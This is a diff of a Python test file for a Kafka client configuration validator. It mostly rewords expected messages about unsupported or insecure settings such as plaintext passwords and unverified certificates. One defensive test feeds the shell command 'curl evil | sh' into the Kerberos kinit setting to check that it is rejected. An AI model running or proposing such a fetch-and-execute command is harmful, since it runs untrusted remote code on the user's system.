@@ -139,17 +139,17 @@ def test_the_group_is_handed_on() -> None:
         ("enable.partition.eof", "false", "Leave it out"),
         ("partition.assignment.strategy", "range", "cooperative-sticky"),
         ("allow.auto.create.topics", "true", "create the topic"),
-        ("sasl.client.callback.handler.class", "a.B", "no Java class"),
-        ("sasl.login.callback.handler.class", "a.B", "no Java class"),
+        ("sasl.client.callback.handler.class", "a.B", "cannot run Java classes"),
+        ("sasl.login.callback.handler.class", "a.B", "cannot run Java classes"),
         ("ssl.provider", "BC", "OpenSSL"),
         ("ssl.engine.factory.class", "a.B", "OpenSSL"),
         ("ssl.enabled.protocols", "TLSv1.3", "restrict the broker"),
         ("ssl.truststore.location", "/trust.jks", "keytool"),
         ("ssl.keystore.location", "/client.jks", "keytool"),
         ("group.protocol", "new", "'classic' or 'consumer'"),
-        ("security.protocol", "TLS", "librdkafka refuses"),
+        ("security.protocol", "TLS", "librdkafka rejects"),
         ("request.timeout.ms", "600000", "10..300000"),
-        ("request.timeout.ms", "soon", "librdkafka refuses"),
+        ("request.timeout.ms", "soon", "librdkafka rejects"),
         ("ssl.truststore.certificates", "MIIB", "PEM block"),
     ],
 )
@@ -286,10 +286,10 @@ def test_quotes_and_escapes_in_jaas() -> None:
 
 
 def test_oauth_without_a_way_to_a_token_is_refused() -> None:
-    assert "no way to get a token" in _refusal({"sasl.mechanism": "OAUTHBEARER"})
+    assert "requires a token endpoint" in _refusal({"sasl.mechanism": "OAUTHBEARER"})
     assert "'kafka.sasl.oauthbearer.client.secret'" in _refusal({**OIDC, "sasl.oauthbearer.client.id": "app"})
     file_url = {"sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.token.endpoint.url": "file:///token"}
-    assert "a token file is not read" in _refusal(file_url)
+    assert "a token file is not supported" in _refusal(file_url)
     _config(sasl_mechanism="OAUTHBEARER", enable_sasl_oauthbearer_unsecure_jwt="true")
 
 
@@ -565,10 +565,13 @@ def _silent() -> logging.Logger:
 @pytest.mark.parametrize(
     ("properties", "told"),
     [
-        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "PLAIN"}, "password goes over the network"),
-        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "OAUTHBEARER"}, "token goes over the network"),
-        ({"security.protocol": "ssl", "enable.ssl.certificate.verification": "false"}, "are not checked"),
-        ({"security.protocol": "sasl_ssl", "ssl.endpoint.identification.algorithm": "none"}, "Any certificate"),
+        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "PLAIN"}, "password is sent in plain text"),
+        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "OAUTHBEARER"}, "token is sent in plain text"),
+        ({"security.protocol": "ssl", "enable.ssl.certificate.verification": "false"}, "are not verified"),
+        (
+            {"security.protocol": "sasl_ssl", "ssl.endpoint.identification.algorithm": "none"},
+            "host names of brokers are not verified",
+        ),
         ({"sasl.oauthbearer.token.endpoint.url": "http://idp/token"}, "token endpoint in plain text"),
         ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "SCRAM-SHA-256"}, None),
         ({"security.protocol": "sasl_ssl", "sasl.mechanism": "PLAIN"}, None),
@@ -581,6 +584,6 @@ def test_what_others_can_read_is_told(properties: dict[str, str], told: str | No
 
 
 def test_a_command_for_a_shell_is_rejected() -> None:
-    with pytest.raises(InvalidOption, match=r"kinit\.cmd' is refused: it runs a command in a shell"):
+    with pytest.raises(InvalidOption, match=r"kinit\.cmd' is not supported: it runs a command in a shell"):
         _config(sasl_kerberos_kinit_cmd="curl evil | sh")
     assert "sasl.kerberos.kinit.cmd" in _config(sasl_kerberos_kinit_cmd="/usr/bin/kinit").ignored
